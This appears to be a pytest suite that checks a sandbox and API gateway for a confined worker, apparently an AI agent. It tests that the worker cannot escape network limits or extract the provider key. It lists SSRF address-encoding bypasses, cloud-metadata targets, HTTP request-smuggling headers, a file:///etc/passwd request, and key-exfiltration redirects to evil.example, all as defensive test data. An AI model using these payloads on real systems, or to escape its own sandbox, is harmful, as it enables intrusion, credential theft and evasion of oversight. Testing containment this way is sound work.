"""A worker that wants out: past the gateway, past the list of hosts, or to the keys. Every way fails.

The tests with `seen` read one run of `attacks.py` in a real sandbox; the others are a worker's socket without the rest.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import signal
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from doors.world import HERE, Owner, World, echo
from harness import PATIENCE
from proctor.doors import door
from proctor.doors.gateway.port import Upstream
from proctor.doors.gateway.server import Gateway
from proctor.doors.hosts import environment
from proctor.sandbox.choose import choose
from proctor.sandbox.policy import DOOR, GATEWAY, Policy

KEY = "sk-the-real-key-0123456789"
ATTACKS = Path(__file__).with_name("attacks.py")
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
MODELS = b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
LOOPBACKS = (
    *("127.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1"),
    *("017700000001", "127.0.0.1.", "127.0.0.1%00", "user@127.0.0.1", "example.org@127.0.0.1", "[::1]", "[::]"),
    *("[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::127.0.0.1]"),
    *("[fe80::1%25lo]", "localhost", "LOCALHOST", "localhost.", "①②⑦.0.0.1", "１２７.0.0.1", "%31%32%37.0.0.1"),
    *(
        "example.org#@127.0.0.1",
        "127.0.0.1\\@example.org",
        "127。0。0。1",
        "127.0.0.1\t",
        " 127.0.0.1",
        "2002:7f00:1::",
    ),
)
PRIVATES = (
    *("10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "[fd00::1]", "[fe80::1]"),
    *("[2002:a00:1::]", "0xa000001", "167772161", "metadata.example", "private.example", "rebound.example"),
)
NAMES = {
    "localhost": ["127.0.0.1"],
    "metadata.example": ["169.254.169.254"],
    "private.example": ["10.0.0.1", "fd00::1"],
    "rebound.example": [HERE, "127.0.0.1"],
}


@dataclass
class Provider:
    """A model server that keeps what it gets, byte for byte, and answers with `answer` in its pieces."""

    pieces: list[bytes] = field(default_factory=lambda: [OK])
    got: list[bytes] = field(default_factory=list)
    port: int = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, EOFError):
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                length = next(
                    (
                        int(line.split(b":")[1])
                        for line in head.lower().split(b"\r\n")
                        if line[:15] == b"content-length:"
                    ),
                    0,
                )
                self.got.append(head + await reader.readexactly(length))
                for piece in self.pieces:
                    writer.write(piece)
                    await writer.drain()
                    await asyncio.sleep(0)
        writer.close()


@dataclass
class Scene:
    """The whole way: a worker's sockets, the real gateway and host door, a provider, and an internet."""

    provider: Provider
    world: World
    owner: Owner
    gateway: Gateway
    door: Path

    async def say(self, data: bytes, *, end: bool = True) -> bytes:
        """Everything that comes back from the door's socket."""
        reader, writer = await asyncio.open_unix_connection(str(self.door / door.SOCKET))
        try:
            with contextlib.suppress(ConnectionError):
                writer.write(data)
                return await asyncio.wait_for(reader.read(), PATIENCE)
            return b""
        finally:
            writer.close()


@contextlib.asynccontextmanager
async def scene(folder: Path) -> AsyncIterator[Scene]:
    """Models at a provider with the key, `example.org` granted and there; names of the host's own granted in vain."""
    provider = Provider()
    serving = await asyncio.start_server(provider.serve, "127.0.0.1", 0)
    provider.port = serving.sockets[0].getsockname()[1]
    world = World(dict(NAMES))
    main = Upstream("main", f"http://127.0.0.1:{provider.port}", KEY)
    granted = ("example.org", *NAMES, "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", f"127.0.0.1:{provider.port}")
    owner = Owner(granted, more={"upstreams": (main,), "unknown_paths": True})
    gateway = Gateway(owner, iteration=1, task=None)
    made = door.make(folder)
    await gateway.start(made.folder, None)
    gateway._hosts._network = world
    async with world.host(echo, "example.org", 443), world.host(world.answering(OK), "example.org", 80):
        try:
            yield Scene(provider, world, owner, gateway, made.folder)
        finally:
            await gateway.stop()
            serving.close()
            made.remove()


@pytest.fixture
async def here(tmp_path: Path) -> AsyncIterator[Scene]:
    async with scene(tmp_path) as made:
        yield made


# --- from inside ------------------------------------------------------------------------------


@dataclass
class Seen:
    """What came of each attempt inside, and what was seen of it outside."""

    results: dict[str, str]
    provider: Provider
    world: World
    owner: Owner

    def all(self, kind: str) -> dict[str, str]:
        return {name: text for name, text in self.results.items() if name.startswith(f"{kind} ")}


async def attacked(folder: Path, kind: str) -> Seen:
    async with scene(folder) as made:
        requests = [
            *(f"CONNECT {host}:{port}" for host in (*LOOPBACKS, *PRIVATES) for port in (443, made.provider.port)),
            *(
                f"GET http://{host}{port}/"
                for host in (*LOOPBACKS, *PRIVATES)
                for port in ("", f":{made.provider.port}")
            ),
            *(f"CONNECT example.org:{port}" for port in (22, 25, 53, 8377, made.provider.port)),
            *(
                "CONNECT evil.example:443",
                "GET http://evil.example/",
                f"GET http://127.0.0.1:{made.provider.port}/v1/models",
            ),
        ]
        told = {
            "door": DOOR,
            "gateway": GATEWAY,
            "connects": [
                *((HERE, 443), (HERE, 80), ("2606:4700::1111", 443), ("10.0.0.1", 443), ("169.254.169.254", 80)),
                *(("8.8.8.8", 53), ("127.0.0.53", 53)),
                *(("127.0.0.1", port) for port in (*made.world.ports.values(), made.provider.port)),
            ],
            "datagrams": [("8.8.8.8", 53), ("127.0.0.53", 53), ("127.0.0.1", 53), ("2606:4700::1111", 53)],
            "names": ["example.org", "api.anthropic.com", "secret.evil.example"],
            "heads": [f"{line} HTTP/1.1\r\nHost: example.org\r\n\r\n".encode().decode("latin-1") for line in requests],
            "pids": [os.getpid(), os.getppid()],
        }
        workspace = folder / "workspace"
        workspace.mkdir()
        attacks = workspace / "attacks.py"
        attacks.write_text(ATTACKS.read_text())
        policy = Policy(
            workspace,
            environment={**environment(GATEWAY), "ANTHROPIC_API_KEY": "placeholder"},
            door=made.door,
            listen=True,
            programs=("curl",),
        )
        command = [sys.executable, "-I", "-S", str(attacks), json.dumps(told)]
        running = choose(kind).launch(command, policy, stdout=-1)
        try:
            assert running.listener
            assert running.stdout
            await made.gateway.listen(running.listener)
            printed = await asyncio.to_thread(running.stdout.read)
            assert (await asyncio.to_thread(running.wait, 60)).code == 0
        finally:
            running.close()
        return Seen(json.loads(printed), made.provider, made.world, made.owner)


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> Seen:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PROVIDER_KEY", KEY)
        return asyncio.run(attacked(tmp_path_factory.mktemp("t"), "bwrap"))


def test_the_ways_that_are_meant_to_be_open_are_open(seen: Seen) -> None:
    for way in ("door", "loopback"):
        assert seen.results[way].startswith("HTTP/1.1 200 OK")
    assert seen.results["tunnel"] == "HTTP/1.1 200 Connection established\r\n\r\nthrough the tunnel"
    assert seen.results["urllib"] == seen.results["curl"] == "hello"
    assert seen.results["local"] == "200"


def test_nothing_is_reached_directly(seen: Seen) -> None:
    """Neither the internet nor what listens outside, the provider itself among it: a changed base URL leads nowhere."""
    assert len(seen.all("connect")) == 10
    assert set(seen.all("connect").values()) <= {"Network is unreachable", "Connection refused"}


def test_no_name_is_looked_up_from_inside(seen: Seen) -> None:
    assert set(seen.all("name").values()) == {"gaierror"}
    assert set(seen.all("datagram").values()) <= {"Network is unreachable", "Connection refused"}
    assert seen.world.looked_up.count("example.org") == 3
    assert set(seen.world.looked_up) <= {"example.org", *NAMES}


def test_the_host_door_leads_nowhere_else_however_it_is_spelt(seen: Seen) -> None:
    answers = seen.all("head")
    assert len(answers) > 180
    for head, answer in answers.items():
        assert answer.startswith(("HTTP/1.1 400 ", "HTTP/1.1 403 ")), (head, answer)
        assert answer.count("HTTP/1.1 ") == 1
    assert set(seen.world.connected) == {(HERE, 443), (HERE, 80)}
    assert len(seen.world.connected) == 3


def test_only_requests_for_a_path_reached_the_provider(seen: Seen) -> None:
    assert [got.split(b"\r\n")[0] for got in seen.provider.got] == [b"GET /v1/models HTTP/1.1"] * 3


def test_the_door_s_socket_cannot_be_replaced(seen: Seen) -> None:
    for act in ("unlink", "rename", "symlink", "make", "mode", "replace"):
        assert seen.results[act] == "Read-only file system", act
    assert seen.results["bind"] == "Address already in use"


def test_no_process_that_is_seen_inside_knows_the_key(seen: Seen) -> None:
    for part in ("environ", "cmdline"):
        assert "attacks.py" in seen.results["cmdline"]
        assert KEY not in seen.results[part]
        assert "PROVIDER_KEY" not in seen.results[part]
    assert set(json.loads(seen.results["memory"].replace("'", '"'))) == {"No such file or directory"}


def test_a_crash_inside_leaves_no_core(seen: Seen) -> None:
    assert seen.results["crash"] == str([int(signal.SIGABRT), False, []])


async def test_under_weak_the_files_and_tcp_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without namespaces neither datagrams nor the list of processes are held, and there is no place for a socket of
    the door's own; what a process of the same user could be asked for is."""
    monkeypatch.setenv("PROVIDER_KEY", KEY)
    seen = await attacked(tmp_path, "weak")
    assert set(seen.all("connect").values()) == {"Permission denied"}
    for act in ("unlink", "rename", "symlink", "make", "replace"):
        assert seen.results[act] in {"Permission denied", "Operation not permitted"}, act
    assert KEY not in seen.results["environ"] + seen.results["cmdline"]
    assert seen.results["memory"] == str(["Permission denied"] * 2)
    assert seen.results["tunnel"].endswith("through the tunnel")
    assert set(seen.world.connected) == {(HERE, 443), (HERE, 80)}


# --- on the worker's socket -------------------------------------------------------------------

SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"


@pytest.mark.parametrize("target", [b"/v1/models", b"http://example.org/v1/models"])
@pytest.mark.parametrize(
    "rest",
    [
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
        b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
        b"Content-Length: 44\r\nContent-Length: 0\r\n\r\n",
        b"Content-Length: 0, 44\r\n\r\n",
        b"Content-Length: +0\r\n\r\n",
        b"Content-Length: 0x0\r\n\r\n",
        b"Content-Length: -1\r\n\r\n",
        b"Content-Length : 0\r\n\r\n",
        b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
        b"X: 1\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"X: 1\nContent-Length: 44\r\n\r\n",
        b"X: 1\rContent-Length: 44\r\n\r\n",
        b"X: 1\0\r\nContent-Length: 44\r\n\r\n",
        b"X\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\n-0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\n0\n\r\n",
    ],
)
async def test_no_request_hides_in_another(here: Scene, target: bytes, rest: bytes) -> None:
    """What could be read as one request or as two is read as none, and what follows it is not read at all."""
    answer = await here.say(b"POST " + target + b" HTTP/1.1\r\nHost: x\r\n" + rest + SMUGGLED)
    assert answer == b"" or answer.split(b" ")[1] == b"400"
    assert answer.count(b"HTTP/1.") <= 1
    assert here.provider.got == []
    assert all(b"smuggled" not in head for head in here.world.heads)


@pytest.mark.parametrize(
    "data",
    [
        b"GET http://127.0.0.1:8377/v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http:/v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET https://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET ftp://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET @127.0.0.1/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET example.org HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET * HTTP/1.1\r\nHost: x\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT /v1/models HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT http://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT example.org HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT example.org: HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT example.org:443/x HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT example.org:443\r\nHost: x\r\n\r\n",
        b"CONNECT example.org:443 HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc",
        b"CONNECT example.org:443 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"connect example.org:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT example.org:443 HTTP/2.0\r\nHost: x\r\n\r\n",
        b"CONNECT  example.org:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"CONNECT\texample.org:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://example.org/ HTTP/1.1\r\n\r\n",
        b"GET http://example.org/ HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
        b"GET http://example.org/ a HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://example.org/#a HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://example.org HTTP/0.9\r\nHost: x\r\n\r\n",
        b"TRACE http://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\r\nGET http://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64) + b"\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
        b"\x05\x01\x00 /",
    ],
)
async def test_what_is_no_plain_request_reaches_nobody(here: Scene, data: bytes) -> None:
    answer = await here.say(data, end=True)
    assert answer == b"" or answer.split(b" ")[1] in (b"400", b"403")
    assert here.provider.got == here.world.connected == []


@pytest.mark.parametrize("host", [b"169.254.169.254", b"example.org", b"evil.example:443", b"127.0.0.1:1", b"a@b", b""])
async def test_the_host_header_leads_nowhere(here: Scene, host: bytes) -> None:
    """Neither to another provider than the contract's, nor to another host than the address names."""
    answer = await here.say(MODELS.replace(b"Host: x", b"Host: " + host))
    if answer.startswith(b"HTTP/1.1 200 "):
        assert f"\r\nHost: 127.0.0.1:{here.provider.port}\r\n".encode() in here.provider.got[0]
    assert all(host not in got or not host for got in here.provider.got)
    forwarded = b"X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n\r\n"
    await here.say(b"GET http://example.org/ HTTP/1.1\r\nHost: " + host + b"\r\n" + forwarded)
    assert [b"\r\nHost: example.org\r\n" in head for head in here.world.heads] == [True]
    assert here.world.connected == [(HERE, 80)]


@pytest.mark.parametrize(
    "path", [b"//evil.example/x", b"/\\evil.example", b"/@evil.example/", b"/..//evil.example", b"/%0d%0aX:1"]
)
async def test_a_path_stays_a_path(here: Scene, path: bytes) -> None:
    await here.say(MODELS.replace(b"/v1/models", path))
    assert all(got.startswith(b"GET " + path + b" HTTP/1.1\r\n") for got in here.provider.got)
    assert here.world.looked_up == []


@pytest.mark.parametrize("target", [b"/v1/models", b"http://example.org/"])
@pytest.mark.parametrize(
    "headers",
    [
        b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n",
        b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
        b"Upgrade: tls/1.0\r\nConnection: x\r\n",
        b"UPGRADE: anything\r\n",
    ],
)
async def test_no_other_protocol_is_changed_to(here: Scene, target: bytes, headers: bytes) -> None:
    answer = await here.say(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\n" + headers + b"\r\n" + SMUGGLED)
    assert answer.split(b" ")[1] in (b"400", b"501")
    assert answer.count(b"HTTP/1.1 ") == 1
    assert here.provider.got == here.world.connected == []


async def test_http_2_is_not_spoken_from_the_start_either(here: Scene) -> None:
    answer = await here.say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
    assert answer.split(b" ")[1] == b"400"
    assert here.provider.got == []


async def test_a_connection_to_the_gateway_does_not_become_one_to_a_host(here: Scene) -> None:
    later = b"GET http://example.org/ HTTP/1.1\r\nHost: x\r\n\r\n"
    for second in (later, later.replace(b"GET http://example.org/", b"CONNECT example.org:443")):
        answer = await here.say(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n" + second)
        assert answer.count(b"HTTP/1.1 200 OK") == answer.count(b"HTTP/1.1 400 ") == 1
    assert here.world.connected == []
    assert len(here.provider.got) == 2


# --- the key ----------------------------------------------------------------------------------

ECHOES = {
    "a header": [b"HTTP/1.1 200 OK\r\nX-Key: %b\r\nContent-Length: 2\r\n\r\n{}" % KEY.encode()],
    "the reason": [b"HTTP/1.1 401 bad key %b\r\nContent-Length: 2\r\n\r\n{}" % KEY.encode()],
    "a body": [b"HTTP/1.1 401 No\r\nContent-Length: 40\r\n\r\nbad key: %b....." % KEY.encode()],
    "a broken body": [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1a\r\n%b\r\nzz" % KEY.encode()],
    "a redirection": [
        b"HTTP/1.1 302 Go\r\nLocation: https://evil.example/?key=%b\r\nContent-Length: 0\r\n\r\n" % KEY.encode()
    ],
    "pieces": [
        b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Length: 46\r\n\r\ndata: ",
        *(KEY.encode()[at : at + 3] for at in range(0, len(KEY), 3)),
        b"\n\n0123456789abcdef"[: 46 - 6 - len(KEY)],
    ],
    "no HTTP": [b"%b\r\n\r\n" % KEY.encode()],
    "no length": [b"HTTP/1.1 200 OK\r\nContent-Length: %b\r\n\r\n" % KEY.encode()],
}


ASKING = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 29\r\n\r\n"
    b'{"model":"gpt","messages":[]}'
)


@pytest.mark.parametrize("way", ECHOES)
@pytest.mark.parametrize("asked", [MODELS, ASKING], ids=["path", "model"])
async def test_a_provider_that_echoes_the_key_does_not_give_it_away(
    here: Scene, way: str, asked: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    if asked is ASKING and way in {"no length", "a broken body"}:
        return  # as `no HTTP`, asked again and again for a while
    here.provider.pieces = ECHOES[way]
    answer = await here.say(asked)
    assert KEY.encode() in here.provider.got[0]
    assert KEY.encode() not in answer
    assert KEY[4:-2].encode() not in answer
    assert KEY not in "".join([*here.owner.said, caplog.text])


@pytest.mark.parametrize(
    "base",
    ["http://127.0.0.1:1", "http://no.such.host.invalid", "nonsense", "http://{key}@127.0.0.1:1/{key}", "http://[::1"],
)
async def test_a_provider_that_is_not_there_does_not_give_the_key_away(
    here: Scene, base: str, caplog: pytest.LogCaptureFixture
) -> None:
    here.owner.more["upstreams"] = (Upstream("main", base.format(key=KEY), KEY),)
    answer = await here.say(MODELS)
    assert answer.split(b" ")[1][:1] in (b"4", b"5")
    assert KEY.encode() not in answer
    assert KEY not in "".join([*here.owner.said, caplog.text])


async def test_the_worker_s_own_headers_do_not_move_the_key(here: Scene) -> None:
    """The key is in its one header, to its one provider, whatever the worker sends; and never at the host door."""
    head = (
        b"GET /v1/models?key=placeholder HTTP/1.1\r\nHost: x\r\nConnection: close, authorization, x-api-key\r\n"
        b"Authorization: Bearer placeholder\r\nX-Api-Key: placeholder\r\nX-Goog-Api-Key: placeholder\r\n"
        b"Proxy-Authorization: Basic placeholder\r\n\r\n"
    )
    await here.say(head)
    (got,) = here.provider.got
    assert got.count(KEY.encode()) == 1
    assert b"placeholder" not in got
    await here.say(head.replace(b"/v1/models?key=placeholder", b"http://example.org/"))
    assert KEY.encode() not in here.world.heads[0]
